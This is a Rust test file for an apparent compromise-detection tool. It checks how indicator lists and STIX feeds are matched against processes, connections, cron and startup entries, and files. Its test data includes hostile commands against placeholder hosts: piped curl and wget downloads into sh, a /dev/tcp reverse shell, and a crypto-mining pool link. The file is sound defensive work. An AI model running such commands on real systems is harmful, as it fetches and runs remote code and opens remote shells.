//! Packs: the three forms, what they find, and for how long.

use firedamp::domain::detect::{Entry, File, Grade, Rule, Rulebook, Seen};
use firedamp::domain::facts::{FoundBy, FoundFile, FoundText};

use super::{book, end, grade, pack, process, today, value};

const SHA: &str = "6f8db599de986fab7a21625b7916589c1b2d3e4f5a6b7c8d9e0f112233445566";

fn list(text: &str) -> Rulebook {
    book(&[("seen.txt", text)])
}

#[test]
fn a_host_that_the_responder_added_is_confirmed_where_somebody_talks_to_it() {
    let text = pack("[[indicator]]\nvalue = \"work.example\"\nnote = \"in the proxy's log\"\n");
    let book = book(&[("case7.toml", &text)]);
    let mut seen = process(&["/usr/sbin/nginx"]);
    seen.ends = vec![end(Some("192.0.2.9"), "eu1.work.example", 443)];
    let told = book.of_process(&seen, today());
    assert_eq!(grade(&told, Rule::Indicator), Some(Grade::Confirmed));
    assert_eq!(
        value(&told, Rule::Indicator),
        "eu1.work.example; pack: Case 7; source: Example CERT; licence: CC0-1.0; since: 2026-11-01; \
         expires: 2027-01-31; file: case7.toml:8; note: in the proxy's log"
    );
}

#[test]
fn a_host_below_another_is_found_and_one_that_only_ends_alike_is_not() {
    let book = list("work.example\n");
    let told = |name| book.of_end(&end(None, name, 443), None, today());
    assert_eq!(told("a.b.work.example").len(), 1);
    assert_eq!(told("WORK.example.").len(), 1);
    assert_eq!(told("homework.example"), []);
    assert_eq!(told("work.example.net"), []);
}

#[test]
fn a_plain_list_tells_each_kind_by_its_form() {
    let wallet = "0x52908400098527886E0F7030069857D2E4169EE7";
    let book = list(&format!(
        "# source: Example CERT\n# date: 2026-11-20\n\n192.0.2.7   # first seen\n198.51.100.0/24\n\
         2001:db8::7\nwork.example\n{SHA}\n{wallet}\nhxxp://drop[.]example/a.sh\n"
    ));
    let by_end = |address, name| book.of_end(&end(address, name, 443), None, today());
    assert_eq!(grade(&by_end(Some("192.0.2.7"), ""), Rule::Indicator), Some(Grade::Confirmed));
    assert_eq!(by_end(Some("::ffff:192.0.2.7"), "").len(), 1, "the same address");
    assert_eq!(by_end(Some("198.51.100.200"), "").len(), 1);
    assert_eq!(by_end(Some("198.51.101.1"), ""), []);
    assert_eq!(by_end(Some("2001:db8::7"), "").len(), 1);
    let told = |arguments: &[&str]| book.of_process(&process(arguments), today());
    assert_eq!(told(&["/opt/a", "-u", &format!("{wallet}.rig-7")]).len(), 1);
    assert_eq!(told(&["/opt/a", "-u", &wallet.to_lowercase()]).len(), 1);
    assert_eq!(told(&["/opt/a", "--from=http://drop.example/a.sh?x=1"]).len(), 1);
    assert_eq!(told(&["/opt/a", "http://drop.example/b.sh"]), []);
    let mut seen = process(&["/usr/local/bin/tool"]);
    let upper = SHA.to_uppercase();
    seen.digests = vec![upper.as_str().into()];
    let told = book.of_process(&seen, today());
    assert_eq!(grade(&told, Rule::Indicator), Some(Grade::Confirmed));
    assert!(value(&told, Rule::Indicator).contains("source: Example CERT"));
}

#[test]
fn a_bundle_of_stix_is_read_with_its_author_and_its_days() {
    let bundle = r#"{"type":"bundle","id":"bundle--1","objects":[
      {"type":"identity","id":"identity--1","name":"Example CERT"},
      {"type":"marking-definition","id":"marking-definition--1","definition":{"statement":"CC-BY-4.0"}},
      {"type":"malware","id":"malware--1","name":"not looked at"},
      {"type":"indicator","id":"indicator--1","name":"drop host","created_by_ref":"identity--1",
       "object_marking_refs":["marking-definition--1"],"pattern_type":"stix",
       "valid_from":"2026-11-02T10:00:00Z","valid_until":"2026-12-31T00:00:00Z",
       "pattern":"[domain-name:value = 'work.example' OR ipv4-addr:value IN ('192.0.2.7','192.0.2.8')]"},
      {"type":"indicator","id":"indicator--2","pattern":"[file:hashes.'SHA-256' = 'SHA'] AND [url:value = 'http://drop.example/a']"},
      {"type":"indicator","id":"indicator--3","revoked":true,"pattern":"[ipv4-addr:value = '192.0.2.99']"}
    ]}"#
    .replace("SHA'", &format!("{SHA}'"))
    .replace(&format!("{SHA}-256"), "SHA-256");
    let book = book(&[("feed.json", &bundle)]);
    let told = book.of_end(&end(Some("192.0.2.8"), "", 80), None, today());
    assert_eq!(
        value(&told, Rule::Indicator),
        "192.0.2.8:80; pack: feed; source: Example CERT; licence: CC-BY-4.0; since: 2026-11-02; \
         expires: 2026-12-31; file: feed.json:indicator--1; note: drop host"
    );
    assert_eq!(book.of_end(&end(Some("192.0.2.99"), "", 80), None, today()), [], "it was revoked");
    let mut seen = process(&["/opt/a", "http://drop.example/a"]);
    assert_eq!(book.of_process(&seen, today()), [], "one of two is not both");
    seen.digests = vec![SHA.into()];
    assert_eq!(book.of_process(&seen, today()).len(), 1);
}

#[test]
fn an_indicator_whose_time_is_over_is_noted_and_says_so() {
    let text = pack(
        "[[indicator]]\nvalue = \"work.example\"\nexpires = 2026-11-21\n\n\
         [[indicator]]\nvalue = \"other.example\"\nexpires = 2026-11-22\n",
    );
    let book = book(&[("case7.toml", &text)]);
    let told = book.of_end(&end(None, "work.example", 80), None, today());
    assert_eq!(grade(&told, Rule::ExpiredIndicator), Some(Grade::Noted));
    assert!(value(&told, Rule::ExpiredIndicator).contains("expires: 2026-11-21"));
    let told = book.of_end(&end(None, "other.example", 80), None, today());
    assert_eq!(
        grade(&told, Rule::Indicator),
        Some(Grade::Confirmed),
        "its last day is one of its own"
    );
    let later = "2026-11-23T00:00:00Z".parse().unwrap();
    let told = book.of_end(&end(None, "other.example", 80), None, later);
    assert_eq!(grade(&told, Rule::Indicator), None);
}

#[test]
fn whoever_looks_for_an_indicator_is_not_called_by_it() {
    let book = list("work.example\n192.0.2.7\n");
    let told = |arguments: &[&str]| book.of_process(&process(arguments), today());
    let grade_of = |arguments: &[&str]| grade(&told(arguments), Rule::Indicator);
    assert_eq!(grade_of(&["grep", "-r", "work.example", "/var/log"]), Some(Grade::Noted));
    assert_eq!(grade_of(&["dig", "work.example"]), Some(Grade::Noted));
    assert_eq!(grade_of(&["bash", "-c", "grep 192.0.2.7 /var/log/syslog"]), Some(Grade::Noted));
    assert_eq!(grade_of(&["/opt/a", "-o", "work.example:443"]), Some(Grade::Confirmed));
    let mut own = process(&["curl", "https://work.example/"]);
    own.own = true;
    assert_eq!(grade(&book.of_process(&own, today()), Rule::Indicator), Some(Grade::Noted));
}

#[test]
fn a_file_that_is_called_like_a_host_is_no_host() {
    let book = list("work.sh\npool.example\n");
    let told = |arguments: &[&str]| book.of_process(&process(arguments), today()).len();
    assert_eq!(told(&["/usr/bin/bash", "work.sh"]), 0);
    assert_eq!(told(&["/usr/bin/python", "/srv/pool.example/app"]), 0);
    assert_eq!(told(&["/opt/a", "work.sh:443"]), 1);
    assert_eq!(told(&["/opt/a", "https://work.sh/"]), 1);
}

#[test]
fn what_starts_by_itself_is_found_by_what_it_names_unless_a_package_has_it_so() {
    let book = list("drop.example\n");
    let content = b"* * * * * curl -s http://drop.example/x | sh";
    let mut entry = Entry { kind: "cron", path: b"/etc/cron.d/x", content, packaged: None };
    let told = book.of_entry(&entry, today());
    assert_eq!(grade(&told, Rule::Indicator), Some(Grade::Confirmed));
    entry.packaged = Some(true);
    assert_eq!(book.of_entry(&entry, today()), []);
}

#[test]
fn an_entry_that_only_names_an_indicator_or_keeps_it_out_is_not_confirmed() {
    let book = list("203.0.113.7\n");
    let told = |content: &str| {
        let (kind, path) = ("rc-local", b"/etc/rc.local");
        let entry = Entry { kind, path, content: content.as_bytes(), packaged: None };
        grade(&book.of_entry(&entry, today()), Rule::Indicator)
    };
    assert_eq!(told("#!/bin/sh\n# blocked since May: 203.0.113.7\nexit 0\n"), None);
    for keeps in [
        "iptables -A OUTPUT -d 203.0.113.7 -j DROP",
        "/usr/sbin/nft add rule inet f output ip daddr 203.0.113.7 drop",
        "ufw deny out to 203.0.113.7 && curl -s https://watch.example/alive",
        "ip route add blackhole 203.0.113.7/32",
    ] {
        assert_eq!(told(keeps), Some(Grade::Noted), "{keeps}");
    }
    assert_eq!(told("UPSTREAM=203.0.113.7"), Some(Grade::Suspect));
    for from in [
        "true; wget -qO- http://203.0.113.7/x | sh; iptables -F",
        "/opt/a -o stratum+tcp://203.0.113.7:443 -u w",
        "bash -i >& /dev/tcp/203.0.113.7/443 0>&1",
    ] {
        assert_eq!(told(from), Some(Grade::Confirmed), "{from}");
    }
}

#[test]
fn who_keeps_an_indicator_out_or_resolves_it_for_others_is_not_called_by_it() {
    let book = list("work.example\n203.0.113.7\n");
    let of = |exe: &'static str, arguments: &[&'static str]| {
        let seen = Seen { exe: exe.as_bytes(), ..process(arguments) };
        grade(&book.of_process(&seen, today()), Rule::Indicator)
    };
    let rule = ["nft", "add", "rule", "ip", "f", "o", "ip", "daddr", "203.0.113.7", "drop"];
    assert_eq!(of("/usr/sbin/nft", &rule), Some(Grade::Noted));
    let drop = ["iptables", "-A", "OUTPUT", "-d", "203.0.113.7", "-j", "DROP"];
    assert_eq!(of("/usr/sbin/xtables-nft-multi", &drop), Some(Grade::Noted));
    assert_eq!(of("/usr/bin/sudo", &["sudo", "nft", "203.0.113.7"]), Some(Grade::Noted));
    let ufw = ["/usr/bin/python3", "/usr/sbin/ufw", "deny", "203.0.113.7"];
    assert_eq!(of("/usr/bin/python3.12", &ufw), Some(Grade::Noted));
    let asked = |exe: &'static str, title: &'static str| {
        let seen = Seen { exe: exe.as_bytes(), ..process(&[title]) };
        grade(&book.of_name(b"eu.work.example", Some(&seen), today()), Rule::Indicator)
    };
    let resolved = "/usr/lib/systemd/systemd-resolved";
    assert_eq!(asked(resolved, resolved), Some(Grade::Noted));
    assert_eq!(asked("/usr/sbin/unbound", "unbound"), Some(Grade::Noted));
    assert_eq!(asked("/opt/a", "unbound"), Some(Grade::Suspect));
}

#[test]
fn who_only_calls_itself_a_tool_is_confirmed_by_its_words() {
    let book = list("203.0.113.7\n");
    let of = |exe: &'static str, title: &'static str| {
        let arguments = [title, "-o", "203.0.113.7:443"];
        let seen = Seen { exe: exe.as_bytes(), ..process(&arguments) };
        grade(&book.of_process(&seen, today()), Rule::Indicator)
    };
    assert_eq!(of("/root/m", "grep"), Some(Grade::Confirmed));
    assert_eq!(of("/opt/m", "dig"), Some(Grade::Confirmed));
    assert_eq!(of("/tmp/grep", "grep"), Some(Grade::Confirmed), "anybody may put it there");
    assert_eq!(of("/usr/bin/grep", "grep"), Some(Grade::Noted));
    assert_eq!(of("/usr/bin/vim.basic", "vi"), Some(Grade::Noted));
    assert_eq!(of("/bin/busybox", "grep"), Some(Grade::Noted));
    assert_eq!(of("", "grep"), Some(Grade::Noted), "its executable cannot be read");
}

#[test]
fn what_a_process_has_in_its_files_and_its_memory_is_found_too() {
    let book = list("work.example\n");
    let file =
        |by, content: &str| FoundFile { by, content: content.into(), ..FoundFile::default() };
    let config = "{\"pools\":[{\"url\":\"eu.work.example:443\"}]}";
    let told = |arguments: &[&str], file: &FoundFile| {
        let seen = Seen { files: vec![file], ..process(arguments) };
        grade(&book.of_trace(&seen, today()), Rule::Indicator)
    };
    assert_eq!(told(&["/opt/a"], &file(FoundBy::Beside, config)), Some(Grade::Confirmed));
    assert_eq!(told(&["/opt/a"], &file(FoundBy::Beside, "{}")), None);
    assert_eq!(
        told(&["/bin/bash"], &file(FoundBy::Folder, config)),
        Some(Grade::Suspect),
        "it only stands there"
    );
    assert_eq!(told(&["less", "config.json"], &file(FoundBy::Named, config)), Some(Grade::Noted));
    let text = FoundText { memory: true, text: "stratum+tcp://work.example:443".into() };
    let seen = Seen { texts: vec![&text], ..process(&["/opt/a"]) };
    assert_eq!(grade(&book.of_trace(&seen, today()), Rule::Indicator), Some(Grade::Suspect));
}

#[test]
fn a_file_that_lies_somewhere_is_found_by_what_it_names() {
    let book = list("work.example\n");
    let file = File { path: b"/tmp/x", content: b"pool = work.example:443", packaged: None };
    assert_eq!(grade(&book.of_file(&file, today()), Rule::Indicator), Some(Grade::Confirmed));
    assert_eq!(book.of_file(&File { packaged: Some(true), ..file }, today()), []);
}

#[test]
fn what_came_with_the_program_is_a_heuristic_and_names_its_source() {
    let book = Rulebook::built_in();
    let told = book.of_end(&end(None, "donate.v2.xmrig.com", 3333), None, today());
    assert_eq!(grade(&told, Rule::KnownIndicator), Some(Grade::Suspect));
    assert!(value(&told, Rule::KnownIndicator).contains("DonateStrategy.cpp"));
    let told = book.of_process(&process(&["/opt/a", "donate.v2.xmrig.com"]), today());
    assert_eq!(grade(&told, Rule::KnownIndicator), Some(Grade::Noted));
}

#[test]
fn the_rules_in_force_are_told_with_their_digests() {
    let files = book(&[("case7.txt", "work.example\n")]).files().to_vec();
    let names: Vec<&str> = files.iter().map(|(file, _)| file.as_str()).collect();
    let own = ["built-in.toml", "pb-31-process.yml", "pb-31-network.yml", "pb-31-dns.yml"];
    assert_eq!(names[..4], own);
    assert_eq!(names[4], "case7.txt");
    assert_eq!(files[4].1.to_string(), sha256("work.example\n"));
}

fn sha256(text: &str) -> String {
    use sha2::{Digest as _, Sha256};
    firedamp::domain::base::Digest(Sha256::digest(text.as_bytes()).into()).to_string()
}
